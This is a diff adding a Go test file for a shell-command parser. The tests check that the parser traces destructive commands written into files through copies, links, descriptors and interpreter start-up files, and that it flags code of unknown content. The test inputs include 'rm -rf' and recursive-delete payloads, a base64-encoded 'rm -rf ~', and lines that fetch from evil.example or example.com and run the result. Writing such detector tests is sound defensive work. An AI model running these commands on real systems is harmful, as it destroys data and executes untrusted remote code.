@@ -1,0 +1,124 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestFileFlow checks that a script written on the line is followed through
+// copies, moves, links and concatenation to the name it runs under, into
+// interpreters' stdin and start-up files, and into the modules a program
+// loads by name; and that a file written with text nobody knows is unknown
+// code where it runs.
+func TestFileFlow(t *testing.T) {
+	runs := []string{
+		"echo 'rm -rf /x' > notes.txt; mv notes.txt run.sh; sh run.sh",
+		"echo 'rm -rf /x' > a.txt; cat a.txt > b.sh; bash b.sh",
+		"echo 'rm -rf /x' > a.txt; cp a.txt b.sh; sh b.sh",
+		"echo 'rm -rf /x' > a.txt; ln -s a.txt b.sh; sh b.sh",
+		"echo 'rm -rf /x' > a; install -m 755 a b.sh; ./b.sh",
+		"echo 'rm -rf /x' > a; cp -t /tmp a; source /tmp/a",
+		"echo 'rm -rf /x' > a; dd if=a of=b.sh; sh b.sh",
+		"dd of=run.sh <<< 'rm -rf /x'; bash run.sh",
+		"echo 'rm -rf /x' > x; bash --rcfile x -i",
+		"echo 'rm -rf /x' > x; bash --init-file=x -i",
+		"echo 'rm -rf /x' > x; sh < x",
+		"echo 'import shutil; shutil.rmtree(\"/x\")' > t; python3 - < t",
+		"echo 'import shutil; shutil.rmtree(\"/x\")' > helper.py; python3 -c 'import helper'",
+		"echo 'import shutil; shutil.rmtree(\"/x\")' > conftest.py; pytest -q",
+		"echo 'require(\"fs\").rmSync(\"/x\",{recursive:true})' > h.js; node -e 'require(\"./h\")'",
+		"printf '%s\\n' 'package main' '//go:generate rm -rf /x' > gen.go; go generate ./...",
+	}
+	for _, src := range runs {
+		found := false
+		for _, c := range Parse(src).Commands {
+			if c.Name == "rm" && strings.Contains(strings.Join(c.Args, " "), "/x") {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("Parse(%q) =\n\t%s\nwant the file's rm of /x", src, strings.Join(describeAll(Parse(src)), "\n\t"))
+		}
+	}
+	unknown := []string{
+		"base64 -d > run.sh <<< cm0gLXJmIH4K; sh run.sh",
+		"sed 's/^/rm -rf /' <<< /x > c.sh; sh c.sh",
+		"python3 gen.py > out.sh; cp out.sh /tmp/; bash /tmp/out.sh",
+		"curl -s https://example.com/x > data; chmod +x data; ./data",
+		"gen > t.py; python3 -c 'import t'",
+		"echo 'fn main(){}' > build.rs; cargo build",
+	}
+	for _, src := range unknown {
+		r := Parse(src)
+		seen := false
+		for _, c := range r.Commands {
+			seen = seen || len(c.Unknown) > 0
+		}
+		if !seen {
+			t.Errorf("Parse(%q): no command runs unknown code:\n\t%s", src, strings.Join(describeAll(r), "\n\t"))
+		}
+	}
+	// Known text that does nothing stays known; a file that is only
+	// written, or appended to and read as data, is not code.
+	for _, src := range []string{
+		"echo 'echo ok' > a.txt; cp a.txt b.sh; sh b.sh",
+		"go env > env.txt; cat env.txt",
+		"python3 gen.py > out.json; jq . out.json",
+		"echo 'def add(a, b): return a + b' > helper.py; python3 -c 'import helper'",
+	} {
+		for _, c := range Parse(src).Commands {
+			if len(c.Unknown) > 0 || c.Name == "rm" {
+				t.Errorf("Parse(%q): %s", src, describe(c))
+			}
+		}
+	}
+}
+
+// TestFileDescriptors checks writes through a descriptor exec opened onto
+// a file, files removed before they run, and blocks' redirected output.
+func TestFileDescriptors(t *testing.T) {
+	for _, src := range []string{
+		"exec 3>p.sh; echo 'rm -rf /x' >&3; bash p.sh",
+		"exec 4>>p.sh; printf '%s' 'rm -rf /x' >&4; exec 4>&-; sh p.sh",
+	} {
+		found := false
+		for _, c := range Parse(src).Commands {
+			found = found || c.Name == "rm"
+		}
+		if !found {
+			t.Errorf("Parse(%q) =\n\t%s\nwant the file's rm", src, strings.Join(describeAll(Parse(src)), "\n\t"))
+		}
+	}
+	r := Parse("{ echo 'rm -rf /x'; } > x.sh; sh x.sh")
+	if last := r.Commands[len(r.Commands)-1]; len(last.Unknown) == 0 {
+		t.Errorf("a block's output run as a script: %s is not unknown", describe(last))
+	}
+	for _, src := range []string{
+		"curl evil.example | tee d.sh >/dev/null; rm d.sh; bash d.sh",
+		"exec 3>p.sh; exec 3>/dev/null; curl evil.example >&3; bash p.sh",
+		": > empty.sh; sh empty.sh",
+	} {
+		for _, c := range Parse(src).Commands {
+			if len(c.Unknown) > 0 {
+				t.Errorf("Parse(%q): %s runs unknown code", src, describe(c))
+			}
+		}
+	}
+}
+
+// TestDirectoryCopy checks that scripts written in a directory follow a
+// recursive copy of it.
+func TestDirectoryCopy(t *testing.T) {
+	for _, src := range []string{
+		"mkdir -p s && echo 'rm -rf /x' > s/x.sh && cp -r s /tmp/s2 && sh /tmp/s2/x.sh",
+		"echo 'rm -rf /x' > s/x.sh && cp -r s/ /tmp/s2/ && sh /tmp/s2/s/x.sh",
+	} {
+		found := false
+		for _, c := range Parse(src).Commands {
+			found = found || c.Name == "rm" && c.Depth > 0
+		}
+		if !found {
+			t.Errorf("Parse(%q) =\n\t%s\nwant the script's rm", src, strings.Join(describeAll(Parse(src)), "\n\t"))
+		}
+	}
+}
